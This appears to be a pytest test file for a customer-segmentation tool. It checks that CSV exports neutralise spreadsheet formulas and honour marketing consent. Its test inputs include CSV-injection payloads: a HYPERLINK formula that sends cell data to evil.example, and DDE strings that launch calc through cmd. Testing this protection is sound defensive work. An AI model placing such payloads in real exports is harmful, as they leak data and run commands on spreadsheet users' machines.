"""Exports: one consent rule on every path, and CSV cells a spreadsheet cannot run (issue 15)."""

from __future__ import annotations

import csv
import io
import json

import ibis
import pandas as pd
import pyarrow as pa
import pytest
import yaml

from segmint.activate.csvcells import FORMULA_PREFIXES, neutralise, neutralise_batch
from segmint.segment.export import write_members


def _rows(path):
    with open(path, newline="") as fh:
        return list(csv.DictReader(fh))

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_prefix_is_neutralised(value):
    assert value[0] in FORMULA_PREFIXES
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["C42", "-12.5", "+44", "-1e5", "3", "", "a=b", "'=already quoted"])
def test_plain_text_and_numbers_are_kept(value):
    assert neutralise(value) == value


def test_batch_neutralises_text_cells_and_names_not_numbers():
    batch = pa.record_batch({
        "customer_id": FORMULAS + ["C1"],
        "=evil_attribute": ["-12.5", "-1+1", "ok", None, "@x", "x", "y"],
        "spend": [-12.5, -1.0, 0.0, 1.0, 2.0, 3.0, 4.0],
        "segment": pa.array(["=VIP"] * 6 + ["Mid"]).dictionary_encode(),
    })
    out = neutralise_batch(batch)
    assert out.schema.names == ["customer_id", "'=evil_attribute", "spend", "segment"]
    assert out.column(0).to_pylist() == ["'" + f for f in FORMULAS] + ["C1"]
    assert out.column(1).to_pylist() == ["-12.5", "'-1+1", "ok", None, "'@x", "x", "y"]
    assert out.column(2).to_pylist() == [-12.5, -1.0, 0.0, 1.0, 2.0, 3.0, 4.0]  # numbers are not formulas
    assert out.column(3).to_pylist() == ["'=VIP"] * 6 + ["Mid"]


def test_write_members_csv_is_safe_unless_raw(tmp_path):
    table = pa.table({"customer_id": ["=1+2", "C2"], "segment": ["@VIP", "VIP"], "spend": [-3.5, 2.0]})
    assert write_members(table, tmp_path / "safe.csv") == 2
    safe = _rows(tmp_path / "safe.csv")
    assert [r["customer_id"] for r in safe] == ["'=1+2", "C2"] and safe[0]["segment"] == "'@VIP"
    assert safe[0]["spend"] == "-3.5"
    write_members(table, tmp_path / "raw.csv", raw_csv=True)
    assert [r["customer_id"] for r in _rows(tmp_path / "raw.csv")] == ["=1+2", "C2"]
    write_members(table, tmp_path / "safe.csv.gz")
    assert pd.read_csv(tmp_path / "safe.csv.gz")["customer_id"].tolist() == ["'=1+2", "C2"]
    write_members(table, tmp_path / "m.jsonl")  # not a spreadsheet format: exact values
    assert json.loads((tmp_path / "m.jsonl").read_text().splitlines()[0])["customer_id"] == "=1+2"
    write_members(table.slice(0, 0), tmp_path / "empty.csv")
    assert (tmp_path / "empty.csv").read_text().strip() == '"customer_id","segment","spend"'


def test_api_stream_rows_is_safe_unless_raw():
    from segmint.server.data import stream_rows

    t = ibis.memtable(pa.table({"customer_id": ["+cmd|x", "C2"], "n": [-1, 2]}))
    safe = b"".join(stream_rows(t, "csv", [0])).decode()
    raw = b"".join(stream_rows(t, "csv", [0], raw_csv=True)).decode()
    assert "'+cmd|x" in safe and "-1" in safe and "'-1" not in safe
    assert '"+cmd|x"' in raw and "'+cmd" not in raw


# -- the CLI path -------------------------------------------------------------------------------
CUSTOMERS = pd.DataFrame({
    "customer_id": ["=HYPERLINK(\"http://x\")", "C2", "C3", "C4"],
    "marketing_consent": ["true", "true", "false", None],
})


@pytest.fixture
def shop(ws):
    """Four customers, all in one rules segment; two have marketing consent (one with a formula as id)."""
    orders = pd.DataFrame({"order_id": [f"O{i}" for i in range(4)], "customer_id": CUSTOMERS.customer_id,
                           "ordered_at": ["2024-06-01"] * 4, "amount": ["10", "20", "30", "40"]})
    ws.ingest("customers", CUSTOMERS)
    ws.ingest("orders", orders)
    path = ws.path / "segmint.yaml"
    cfg = yaml.safe_load(path.read_text())
    cfg["segmentations"] = {"all": {"kind": "rules", "segments": [{"name": "@Buyers", "where": "frequency >= 1"}]},
                            "recent": {"kind": "rules", "segments": [{"name": "@Recent", "where": "recency_days <= 45"}],
                                       "else": "Lapsed"}}
    path.write_text(yaml.safe_dump(cfg, sort_keys=False))
    ws.close()
    from segmint.workspace import Workspace

    with Workspace.open(ws.path) as w:
        w.segment("all", "2024-07-01")
    return ws.path


def _cli(capsys, *args):
    from segmint.cli import main

    capsys.readouterr()
    try:
        main(list(args))
    except SystemExit as exc:
        assert exc.code in (0, None), capsys.readouterr().err
    return capsys.readouterr()


def _audit(path):
    from segmint.server.audit import AuditLog
    from segmint.workspace import Workspace

    with Workspace.open(path) as w:
        return AuditLog(w.store).entries(action="export")


def test_cli_members_leaves_out_unconsented_and_neutralises(shop, tmp_path, capsys):
    out = tmp_path / "m.csv"
    res = _cli(capsys, "members", "all", "-o", str(out), "-w", str(shop))
    rows = _rows(out)
    assert [r["customer_id"] for r in rows] == ["'=HYPERLINK(\"http://x\")", "C2"]
    assert {r["segment"] for r in rows} == {"'@Buyers"}
    assert "Left out 2 members without marketing consent" in res.err
    entry = _audit(shop)[0]
    assert entry["who"].startswith("cli:") and entry["rows"] == 2
    assert entry["details"]["consented_only"] is True and entry["details"]["raw_csv"] is False

    # The terminal listing follows the same rules.
    listing = _cli(capsys, "members", "all", "-w", str(shop)).out.splitlines()
    assert listing == ["'=HYPERLINK(\"http://x\")," + "'@Buyers", "C2,'@Buyers"]


def test_cli_include_unconsented_is_explicit_and_audited(shop, tmp_path, capsys):
    out = tmp_path / "all.csv"
    res = _cli(capsys, "members", "all", "-o", str(out), "--include-unconsented", "--raw-csv", "--json",
               "-w", str(shop))
    assert json.loads(res.out)["rows"] == 4
    ids = [r["customer_id"] for r in _rows(out)]
    assert ids[0] == '=HYPERLINK("http://x")' and set(ids[1:]) == {"C2", "C3", "C4"}
    entry = _audit(shop)[0]
    assert entry["rows"] == 4 and entry["details"]["consented_only"] is False
    assert entry["details"]["raw_csv"] is True and entry["details"]["file"] == str(out)


def test_cli_raw_csv_default_from_segmint_yaml(shop, tmp_path, capsys):
    path = shop / "segmint.yaml"
    cfg = yaml.safe_load(path.read_text())
    cfg["exports"] = {"neutralise_formulas": False}
    path.write_text(yaml.safe_dump(cfg, sort_keys=False))
    _cli(capsys, "members", "all", "-o", str(tmp_path / "raw.csv"), "-w", str(shop))
    assert _rows(tmp_path / "raw.csv")[0]["customer_id"] == '=HYPERLINK("http://x")'
    _cli(capsys, "members", "all", "-o", str(tmp_path / "safe.csv"), "--safe-csv", "-w", str(shop))
    assert _rows(tmp_path / "safe.csv")[0]["customer_id"].startswith("'=")


def test_cli_diff_output_is_safe_csv_too(shop, tmp_path, capsys):
    for as_of in ("2024-07-01", "2024-09-01"):  # everyone moves from @Recent to Lapsed
        _cli(capsys, "segment", "recent", "--as-of", as_of, "-w", str(shop))
    out = tmp_path / "moved.csv"
    _cli(capsys, "diff", "recent", "--from", "2024-07-01", "--to", "2024-09-01", "-o", str(out), "-w", str(shop))
    rows = _rows(out)
    assert rows and "'=HYPERLINK(\"http://x\")" in {r["customer_id"] for r in rows}
    assert all(not v.startswith(("=", "@")) for r in rows for v in r.values() if v)


def test_an_export_onto_a_folder_says_so(tmp_path):
    from segmint.errors import ConfigError

    (tmp_path / "out.csv").mkdir()
    with pytest.raises(ConfigError, match="is a folder"):
        write_members(pa.table({"customer_id": ["C1"]}), tmp_path / "out.csv")
